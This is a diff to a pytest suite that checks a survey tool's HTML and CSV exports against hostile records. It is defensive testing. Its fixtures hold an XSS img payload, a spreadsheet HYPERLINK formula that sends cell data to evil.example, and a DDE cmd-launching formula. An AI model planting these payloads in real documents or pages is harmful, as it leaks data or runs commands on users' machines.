@@ -9,11 +9,13 @@ import base64
 import csv
 import hashlib
 import json
+import subprocess
 from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
 from cryptography.hazmat.primitives import serialization
+from cryptography.hazmat.primitives.asymmetric import ec
 
 from survey.core import envelope
 from survey.core import sealed_document as plaintext
@@ -28,6 +30,8 @@ IMG = '<img src=x onerror="alert(1)">'
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 ATSUM = "@SUM(1+1)*cmd|' /C calc'!A0"
 HOSTILE_CHANNELS = [SCRIPT, HYPERLINK, ATSUM]
+#: The report's folder, and the run with the counts of valid and of all records.
+Hostile = tuple[Path, tuple[subprocess.CompletedProcess[str], int, int]]
 
 
 def write_export(path: Path, lines: list[bytes], key_id: str, definition: str) -> None:
@@ -43,9 +47,10 @@ def write_export(path: Path, lines: list[bytes], key_id: str, definition: str) -
 
 
 @pytest.fixture(scope="module")
-def hostile(tmp_path_factory: pytest.TempPathFactory, analyst_key: AnalystKey) -> tuple[Path, object]:
+def hostile(tmp_path_factory: pytest.TempPathFactory, analyst_key: AnalystKey) -> Hostile:
     base = tmp_path_factory.mktemp("hostile")
     private = serialization.load_pem_private_key(analyst_key.private.read_bytes(), PASSPHRASE.encode())
+    assert isinstance(private, ec.EllipticCurvePrivateKey)
     public = private.public_key()
     q = load(Path("survey/core/questionnaires/demo.toml").resolve())
     lines: list[bytes] = []
@@ -94,8 +99,8 @@ def hostile(tmp_path_factory: pytest.TempPathFactory, analyst_key: AnalystKey) -
     return out, (result, valid, len(lines))
 
 
-def test_hostile_records_go_through_without_a_crash_and_are_counted(hostile: tuple[Path, object]) -> None:
-    out, (result, valid, total) = hostile  # type: ignore[misc]
+def test_hostile_records_go_through_without_a_crash_and_are_counted(hostile: Hostile) -> None:
+    out, (result, valid, total) = hostile
     assert result.returncode == 0, result.stderr
     assert "Traceback" not in result.stderr
     run = json.loads((out / "run.json").read_text())
@@ -112,8 +117,8 @@ def test_hostile_records_go_through_without_a_crash_and_are_counted(hostile: tup
     assert len(listed) == total - valid
 
 
-def test_rejected_answers_never_enter_a_figure(hostile: tuple[Path, object]) -> None:
-    out, (_result, valid, _total) = hostile  # type: ignore[misc]
+def test_rejected_answers_never_enter_a_figure(hostile: Hostile) -> None:
+    out, (_result, valid, _total) = hostile
     rows = list(csv.DictReader(open(out / "aggregates.csv", encoding="utf-8")))
     totals = {r["variable"]: r["value"] for r in rows if r["table"] == "frequency" and r["category"] == "(total)"}
     assert totals["needed_treatment"] == str(valid)
@@ -139,7 +144,7 @@ class Markup(HTMLParser):
         self.text.append(data)
 
 
-def test_the_report_contains_no_live_markup_from_the_records(hostile: tuple[Path, object]) -> None:
+def test_the_report_contains_no_live_markup_from_the_records(hostile: Hostile) -> None:
     out, _ = hostile
     page = Markup()
     raw = (out / "report.html").read_text(encoding="utf-8")
@@ -160,7 +165,7 @@ def test_the_report_contains_no_live_markup_from_the_records(hostile: tuple[Path
     assert "<img" not in raw.lower() and "&lt;img" not in raw.lower()
 
 
-def test_no_csv_cell_starts_with_a_formula_character(hostile: tuple[Path, object]) -> None:
+def test_no_csv_cell_starts_with_a_formula_character(hostile: Hostile) -> None:
     out, _ = hostile
     seen = 0
     for name in ("responses.csv", "scores.csv", "aggregates.csv", "rejected.csv", "codebook.csv"):
